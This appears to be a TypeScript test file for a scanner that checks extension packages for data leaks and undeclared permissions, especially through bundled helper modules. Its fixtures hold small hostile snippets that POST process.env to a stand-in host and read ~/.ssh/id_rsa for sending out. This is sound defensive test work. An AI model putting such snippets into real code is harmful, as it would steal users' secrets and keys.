import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf, packageOf, said } from '#test/support/scan-package.js';
import { CATALOGUES } from '../permissions/catalogues.js';
import { infer } from '../permissions/inference/infer.js';
import { togetherWith } from './javascript/flows/linked.js';
import { rule as leak } from './data-leak.rule.js';
import { rule as inconclusive } from './inconclusive-permission.rule.js';
import { rule as undeclared } from './undeclared-permission.rule.js';

/** Where a helper may lie, how it is loaded from `dist/index.js`, and what makes that lead there. */
const WAYS: readonly (readonly [specifier: string, path: string, manifests?: Readonly<Record<string, object>>])[] = [
  ['./lib/h', 'dist/lib/h.js'],
  ['h', 'node_modules/h/index.js'],
  ['h', 'dist/node_modules/h/index.js'],
  ['h', 'dist/node_modules/h/lib/m.js', { 'dist/node_modules/h/package.json': { main: 'lib/m' } }],
  ['h', 'node_modules/h/m.cjs', { 'node_modules/h/package.json': { exports: { require: './m.cjs' } } }],
  ['h', 'node_modules/h/m.cjs', { 'node_modules/h/package.json': { exports: { electron: './m.cjs', default: './n.js' } } }],
  ['@s/h/sub', 'node_modules/@s/h/lib/sub.cjs', { 'node_modules/@s/h/package.json': { exports: { './*': './lib/*.cjs' } } }],
  ['#h', 'dist/lib/h.js', { 'dist/package.json': { imports: { '#h': './lib/h.js' } } }],
  ['mine/h', 'dist/lib/h.js', { 'package.json': { name: 'mine', exports: { './h': './dist/lib/h.js' } } }],
];
const ASKS = { dialect: 'orchestra', entry_points: ['dist/index.js'] };

/** The same package for every way to its helper. */
function ways(entry: string, helper: string): Record<string, string>[] {
  return WAYS.map(([specifier, path, manifests = {}]) => ({ 'dist/index.js': entry.replaceAll('HELPER', specifier), [path]: helper, ...Object.fromEntries(Object.entries(manifests).map(([name, manifest]) => [name, JSON.stringify(manifest)])) }));
}

test('bad: what is private is handed to a package that is carried and sends it', () => {
  const send = 'exports.send = (body) => { fetch("https://a.example.org/", { method: "POST", body }); };';
  for (const entry of [
    'const h = require("HELPER"); exports.activate = (context) => { h.send(JSON.stringify(process.env)); };',
    'import { send } from "HELPER"; export const activate = () => send(JSON.stringify(process.env));',
    'import * as h from "HELPER"; export const activate = () => setTimeout(h.send, 1, { ...process.env });',
  ]) for (const files of ways(entry, send)) assert.equal(findingsOf(leak, files, { ...ASKS, permissions: ['network'] })[0]?.severity, 'high', JSON.stringify(files));
});

test('bad: a package that is carried reads it, or keeps where it goes', () => {
  const entry = 'const h = require("HELPER"); exports.activate = () => { const kept = h.read(); fetch("https://a.example.org/", { method: "POST", body: kept.text }); };';
  for (const files of ways(entry, 'const fs = require("fs"), os = require("os"); exports.read = () => ({ text: fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8") });')) {
    assert.ok(findingsOf(leak, files, { ...ASKS, permissions: ['network', 'filesystem.read'] }).some(({ severity }) => severity === 'high' || severity === 'critical'), JSON.stringify(files));
  }
});

test('bad: it uses what nobody was asked for, in a file that the package loads', () => {
  for (const files of ways('const h = require("HELPER"); exports.activate = (context) => { h.go({ x: 1 }); };', 'exports.go = (c) => { fetch("https://a.example.org/" + c.x); };')) {
    const [finding] = findingsOf(undeclared, files, { ...ASKS, permissions: [] });
    assert.equal(finding?.severity, 'block', JSON.stringify(files));
    assert.doesNotMatch(finding?.message ?? '', /loads this file/);
  }
});

test('good: what a package that is carried gets of the host is seen', () => {
  for (const files of ways('const h = require("HELPER"); exports.activate = (context) => { h.run(context); };', 'exports.run = (c) => c.ai.chat("x");')) {
    assert.deepEqual(said(inconclusive, files, { ...ASKS, permissions: ['ai.chat'] }), [], JSON.stringify(files));
    assert.deepEqual([...infer(packageOf(files, { ...ASKS, permissions: ['ai.chat'] }), CATALOGUES.get('orchestra')!).used.keys()], ['ai.chat']);
  }
});

test('good: a name of which nothing is carried leads nowhere', () => {
  const entry = 'const h = require("h"); exports.activate = () => { h.send(JSON.stringify(process.env)); };';
  const send = 'exports.send = (body) => { fetch("https://a.example.org/", { method: "POST", body }); };';
  for (const path of ['lib/node_modules/h/index.js', 'node_modules/other/index.js', 'h.js']) {
    assert.ok(findingsOf(leak, { 'dist/index.js': entry, [path]: send }, { ...ASKS, permissions: ['network'] }).every(({ severity }) => severity !== 'high'), path);
  }
});

test('scripts of the extension stay together, however many libraries it carries', () => {
  const library = (name: string, count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`node_modules/${name}/${at === 0 ? 'index' : `m${at}`}.js`, at + 1 < count ? `require("./m${at + 1}.js")` : '']));
  const own = { 'index.js': 'require("./a.js"); require("big")', 'a.js': 'require("./b.js")', 'b.js': 'require("small")' };
  const together = (files: Record<string, string>, path = 'index.js'): string[] => togetherWith(packageOf(files), path, new Set()).map((script) => script.path).sort();
  const mine = ['a.js', 'b.js', 'index.js'];
  assert.deepEqual(together({ ...own, ...library('small', 2) }), [...mine, 'node_modules/small/index.js', 'node_modules/small/m1.js'], 'all of it while it is little');
  const crowded = { ...own, ...library('big', 60), ...library('small', 2) };
  assert.deepEqual(together(crowded), [...mine, 'node_modules/big/index.js', 'node_modules/small/index.js']);
  assert.deepEqual(together(crowded, 'node_modules/small/index.js'), ['node_modules/small/index.js', 'node_modules/small/m1.js']);
  assert.deepEqual(together(crowded, 'node_modules/big/m7.js'), [6, 7, 8].map((at) => `node_modules/big/m${at}.js`), 'of what is too much by itself, what is a step away');
});
